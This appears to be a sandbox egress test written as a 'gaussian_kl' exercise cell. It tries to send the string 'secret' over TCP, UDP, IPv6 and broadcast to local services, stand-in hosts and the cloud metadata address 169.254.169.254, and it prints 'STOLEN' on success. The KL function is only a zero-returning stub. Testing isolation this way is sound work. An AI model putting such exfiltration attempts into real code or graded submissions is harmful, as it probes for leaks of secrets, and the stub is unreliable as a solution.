# tries: send what it knows to another machine, or to a service of this one, by TCP and UDP, over IPv4 and IPv6
# only here: what it finds depends on the machine that grades, not on the grader

# %%
# exercise: gaussian_kl
import os
import socket

failures = []
targets = [("127.0.0.1", 22), ("127.0.0.1", 80), ("10.0.2.2", 53), ("192.0.2.1", 80), ("169.254.169.254", 80)]
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    for target in targets:
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(0.2)
                line.connect(target)
                line.send(b"secret")
                print("STOLEN sent to", target)
        except OSError as error:
            failures.append(error)
for target in (("::1", 80), ("2001:db8::1", 80), ("ff02::1", 5353)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET6, kind) as line:
                line.settimeout(0.2)
                line.connect(target)
                line.send(b"secret")
                print("STOLEN sent to", target)
        except OSError as error:
            failures.append(error)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        line.sendto(b"secret", ("255.255.255.255", 9))
        print("STOLEN sent to all")
    except OSError as error:
        failures.append(error)


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if len(failures) == 17 else len(failures))
